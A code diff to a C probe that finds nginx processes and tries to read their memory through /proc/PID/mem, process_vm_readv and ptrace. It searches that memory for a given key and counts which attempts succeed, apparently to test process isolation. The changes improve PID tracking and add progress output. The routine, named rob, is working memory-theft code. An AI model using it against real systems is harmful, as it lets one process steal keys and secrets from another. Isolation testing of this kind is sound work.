@@ -8,7 +8,8 @@
  * try that the kernel lets through is a success, whatever it then yields.
  *
  * The first line of standard input is a key to look for in what can be read.
- * Says `ready`, goes on until standard input ends, and then says
+ * Says `ready`, and `tried PID` when it has tried all of it at a process for
+ * the first time; goes on until standard input ends, and then says
  *
  *     seen N tries N mem N vm N seize N attach N keys N
  *
@@ -33,11 +34,13 @@
 
 #define MAX_WATCHED 64
 #define MAX_REGION (64UL << 20)
+#define RECENT 4        /* pids that are looked at again */
+#define ROUNDS 256      /* after so many, all processes are */
 
 struct watched {
     pid_t pid;  /* 0: no longer */
     int memory; /* an open /proc/PID/mem, or -1 */
-    int vm, seized, attached, robbed;
+    int vm, seized, attached, robbed, told;
 };
 
 static struct watched watched[MAX_WATCHED];
@@ -70,7 +73,7 @@ static pid_t parent_of(pid_t pid, int *is_nginx) {
         return 0;
     }
     *is_nginx = strstr(text, "(nginx)") != NULL;
-    return state == 'Z' ? 0 : parent;
+    return state == 'Z' || state == 'X' ? 0 : parent;
 }
 
 static int is_target(pid_t pid) {
@@ -143,14 +146,20 @@ static pid_t newest_pid(void) {
     return pid;
 }
 
-/* Those not there yet are tried as well: they may come any moment. */
+/*
+ * A pid is given before its process can be seen, so the last few are looked at
+ * again. One that took longer, or was not nginx yet, is found with all others.
+ */
 static void watch_new(void) {
+    static int round;
     pid_t newest = newest_pid();
-    if (newest < last_pid) {
+    if (newest < last_pid || ++round % ROUNDS == 0) {
         watch_all();
     }
-    for (pid_t pid = last_pid + 1; pid <= newest; pid++) {
-        watch(pid);
+    for (pid_t pid = last_pid - RECENT + 1; pid <= newest; pid++) {
+        if (pid > 1) {
+            watch(pid);
+        }
     }
     last_pid = newest;
 }
@@ -222,6 +231,11 @@ static void rob(void) {
             continue;
         }
         try_all(w);
+        if (!w->told) {
+            w->told = 1;
+            printf("tried %d\n", w->pid);
+            fflush(stdout);
+        }
         if (!is_target(w->pid)) {
             if (w->memory >= 0) {
                 close(w->memory);
